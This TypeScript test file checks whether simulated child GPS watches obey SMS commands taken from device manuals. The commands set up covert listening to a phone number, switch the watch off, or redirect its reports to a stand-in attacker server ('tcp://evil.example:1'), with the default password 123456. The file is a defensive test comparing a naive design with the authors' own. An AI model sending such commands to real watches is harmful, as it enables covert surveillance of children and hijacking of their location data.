import { describe, expect, it } from "vitest";
import { PlainWatch } from "./naive/plain-watch.ts";
import { OurLine } from "./ours/our-line.ts";
import { spelled } from "./sms-manuals.ts";
import { obeys, type Target } from "./target.ts";

const COMMANDS: readonly [string, string][] = [
  ["monitor", "+4400000000"],
  ["poweroff", ""],
  ["url", "tcp://evil.example:1"],
];

/** Sends the manuals' own commands, to make it listen, go off the air or report to somebody else. */
function commands(target: Target): boolean {
  const sayings = COMMANDS.flatMap(([command, argument]) => spelled(command, argument));
  return obeys(target, sayings, (before, after) => after.listens || after.off || after.server !== before.server);
}

describe("B7 i365 T8 Mini, 2019", () => {
  it("breaks the naive watch: a text message with the password 123456 does everything", () => {
    expect(commands(new PlainWatch())).toBe(true);
  });

  it("P28 P32 P57 P58 does not break ours: it has no commands in words and no password to know", () => {
    const ours = new OurLine();
    expect(commands(ours)).toBe(false);
    expect(ours.facts()).toMatchObject({ tracks: true, lamp: true, parents: 1 });
  });
});
